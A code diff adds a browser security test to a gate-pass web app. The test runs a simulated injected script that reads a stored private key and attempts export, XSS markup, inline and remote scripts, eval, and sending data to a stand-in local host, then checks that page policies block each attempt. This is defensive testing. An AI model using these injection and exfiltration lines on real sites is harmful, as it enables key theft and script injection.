@@ -71,7 +71,7 @@ def camera(chromium: Any, tmp_path_factory: Any) -> Iterator[tuple[Any, Film]]:
 @pytest.fixture
 def stage(chromium: Any, camera: Any, live_server: Any, clerk: Any, settings: Any) -> Iterator[Stage]:
     """Yield a gate before anybody has come."""
-    settings.PUBLIC_BASE_URL = live_server.url
+    settings.PUBLIC_BASE_URL = settings.CODES_BASE_URL = live_server.url
     compound = make_compound(hours=ALWAYS, gates={"gates": [gate(name="南门"), gate(name="北门")]})
     south, north = (
         Checkpoint.objects.create(listing_id=compound.pk, name=name, kind="gate") for name in ("南门", "北门")
@@ -292,3 +292,50 @@ def test_a_picture_of_the_screen_opens_nothing_a_minute_later(stage: Stage) -> N
     assert not Pass.objects.exists()
     stage.guard.next()
     assert stage.guard.look_at(stage.courier.screen, GO, NO) == GO
+
+
+INJECTED = """async () => {
+    const record = await new Promise((done) => {
+        const request = indexedDB.open('nuanxin-code', 1);
+        request.onsuccess = () => {
+            const asked = request.result.transaction('keys').objectStore('keys').get('current');
+            asked.onsuccess = () => { request.result.close(); done(asked.result); };
+        };
+    });
+    const came = {};
+    const attempt = async (name, deed) => {
+        try { await deed(); came[name] = 'done'; } catch (error) { came[name] = error.name; }
+    };
+    await attempt('export', () => crypto.subtle.exportKey('pkcs8', record.privateKey));
+    await attempt('markup', () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = 1">'));
+    await attempt('inline', () => { const made = document.createElement('script'); made.text = 'window.ran = 1'; document.body.append(made); });
+    await attempt('script from elsewhere', () => { const made = document.createElement('script'); made.src = 'https://elsewhere.example/x.js'; });
+    await attempt('policy of its own', () => trustedTypes.createPolicy('other', { createHTML: (text) => text }));
+    await attempt('eval', () => (0, eval)('window.ran = 1'));
+    await attempt('fetch', () => fetch('http://127.0.0.1:9/?k', { mode: 'no-cors' }));
+    await new Promise((done) => { const picture = new Image(); picture.onerror = picture.onload = done; picture.src = 'http://127.0.0.1:9/?k'; });
+    await attempt('sign', () => crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, record.privateKey, new Uint8Array(8)));
+    came.ran = Boolean(window.ran);
+    came.refused = [...new Set(window.violations.splice(0).map((line) => line.split(' ')[0]))].sort();
+    return came;
+}"""
+
+
+def test_a_script_that_got_in_finds_no_key_to_take_and_no_way_to_send_one(stage: Stage) -> None:
+    """It can sign while the page is open, with a step in what it signs: docs/threats.md says what is left of that."""
+    show_code(stage)
+    came = stage.courier.page.evaluate(INJECTED)
+    assert came.pop("sign") == "done"
+    assert came.pop("ran") is False
+    assert {"connect-src", "img-src", "require-trusted-types-for", "trusted-types"} <= set(
+        came.pop("refused")
+    )
+    assert came.pop("eval") in {"EvalError", "TypeError"}
+    assert came == {
+        "export": "InvalidAccessError",
+        "markup": "TypeError",
+        "inline": "TypeError",
+        "script from elsewhere": "TypeError",
+        "policy of its own": "TypeError",
+        "fetch": "TypeError",
+    }
